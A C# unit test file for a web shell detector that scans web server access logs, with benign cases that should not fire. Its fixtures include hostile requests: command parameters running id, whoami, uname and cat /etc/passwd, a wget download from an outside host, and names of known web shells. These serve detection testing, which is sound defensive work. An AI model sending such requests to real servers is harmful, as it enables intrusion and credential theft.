using static Ashiato.Tests.Detection.Detectors.Web.AccessLog;

namespace Ashiato.Tests.Detection.Detectors.Web;

public sealed class WebShellDetectorTests
{
    private const string Intruder = "203.0.113.7";

    [Theory]
    [InlineData("GET /wp-content/plugins/x/t.php?cmd=id")]
    [InlineData("GET /t.php?x=1&cmd=cat%20/etc/passwd")]
    [InlineData("GET /t.php?c=/bin/uname+-a")]
    [InlineData("GET /t.jsp?COMMAND=wget%20http://203.0.113.9/x")]
    [InlineData("GET /t.php?exec=%3Bwhoami")]
    [InlineData("GET /t.php?cmd=ls%20-la&dir=/tmp")]
    public void Commands_that_are_answered_again_and_again(string request)
    {
        var found = Detected.In("access.log", Lines(2, Intruder, request, 200));
        Assert.Equal("web.shell Critical High Intrusion x2 -@203.0.113.7 03-02 10:00:00 03-02 10:01:00", Detected.Short(Assert.Single(found.All)));
        Assert.EndsWith(" took commands and answered", found.All[0].Title.En, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("gel4y.php")]
    [InlineData("xleet.php")]
    [InlineData("indoxploit.php")]
    [InlineData("cmd.aspx")]
    public void Names_of_known_shells(string name) =>
        Assert.Equal("web.shell High Medium Sign x1 -@203.0.113.7 03-02 10:00:00 03-02 10:00:00", Detected.Short(Assert.Single(Detected.In("access.log", Line(0, Intruder, $"POST /{name}", 200)).All)));

    [Fact]
    public void The_name_of_a_known_shell()
    {
        var found = Detected.In("access.log", Line(0, Intruder, "GET /uploads/c99.php", 200), Line(5, "198.51.100.8", "POST /uploads/c99.php", 200));
        Assert.Equal("web.shell High Medium Sign x2 -@203.0.113.7 03-02 10:00:00 03-02 10:05:00", Detected.Short(Assert.Single(found.All)));
        Assert.Equal("/uploads/c99.php, the name of a known web shell, answered", found.All[0].Title.En);
    }

    [Fact]
    public void A_script_among_uploads_that_is_posted_to()
    {
        var found = Detected.In("access.log", Line(0, Intruder, "GET /wp-content/uploads/2026/03/x.php", 200), Line(5, Intruder, "POST /wp-content/uploads/2026/03/x.php", 200));
        Assert.Equal("web.shell Medium Medium Sign x2 -@203.0.113.7 03-02 10:00:00 03-02 10:05:00", Detected.Short(Assert.Single(found.All)));
    }

    [Fact]
    public void One_command_to_a_page_is_an_attempt()
    {
        var found = Detected.In("access.log", Line(0, Intruder, "GET /index.php?cmd=id", 200), Line(1, "198.51.100.8", "GET /about.php?exec=whoami", 200));
        Assert.Equal("web.command_tried Low Low Attempt x2 -@- 03-02 10:00:00 03-02 10:01:00", Detected.Short(Assert.Single(found.All)));
    }

    [Fact]
    public void Commands_to_a_page_that_everybody_reads_are_attempts()
    {
        var found = Detected.In("access.log", [.. Lines(3, Intruder, "GET /index.php?cmd=id", 200), .. Enumerable.Range(0, 40).Select(i => Line(5 + i, $"192.0.2.{i}", "GET /index.php?page=2", 200))]);
        Assert.Equal("web.command_tried Low Low Attempt x3 -@203.0.113.7 03-02 10:00:00 03-02 10:02:00", Detected.Short(Assert.Single(found.All)));
    }

    public static TheoryData<string, string[]> Innocent => new()
    {
        { "a file manager's own commands", [.. Lines(9, "192.0.2.25", "GET /elfinder/php/connector.php?cmd=open&target=l1_XA&init=1&tree=1", 200), .. Lines(9, "192.0.2.25", "GET /elfinder/php/connector.php?cmd=ls&target=l1_XA", 200)] },
        { "an editor's own commands", [.. Lines(9, "192.0.2.25", "GET /ckfinder/connector.php?command=GetFolders&type=Images&id=5", 200)] },
        { "a page's own parameter", [.. Lines(9, "192.0.2.25", "POST /admin.php?cmd=validate&id=3", 200), .. Lines(9, "192.0.2.25", "GET /index.php?c=catalog&id=5", 200)] },
        { "no parameter of that name", [.. Lines(9, "192.0.2.25", "GET /index.php?xcmd=id&c2=cat%20x", 200)] },
        { "commands that were refused", [.. Lines(9, Intruder, "GET /t.php?cmd=id", 404)] },
        { "a shell's name that is not there", [.. Lines(9, Intruder, "GET /c99.php", 404)] },
        { "answered once, refused ever since", [Line(0, Intruder, "GET /wso.php", 200), .. Lines(9, Intruder, "GET /wso.php", 404, 1)] },
        { "a site that answers every name", [.. new[] { "c99", "r57", "wso", "b374k", "alfa" }.Select((n, i) => Line(i, Intruder, $"GET /{n}.php", 200))] },
        { "a script among uploads that is only read", [.. Lines(9, "192.0.2.25", "GET /images/captcha.php", 200)] },
        { "the site's own upload form", [.. Enumerable.Range(0, 9).Select(i => Line(i, $"192.0.2.{i}", "POST /upload/index.php", 200))] },
        { "pictures", [.. Lines(9, "192.0.2.25", "GET /uploads/cmd.php.png?cmd=id", 200)] },
        { "a search for a command", [.. Lines(9, "192.0.2.25", "GET /search.php?q=cat%20/etc/passwd", 200)] },
    };

    [Theory]
    [MemberData(nameof(Innocent))]
    public void Others_do_not_fire(string name, string[] lines)
    {
        Assert.NotEmpty(name);
        Detected.In("access.log", lines).Not("web.");
    }
}
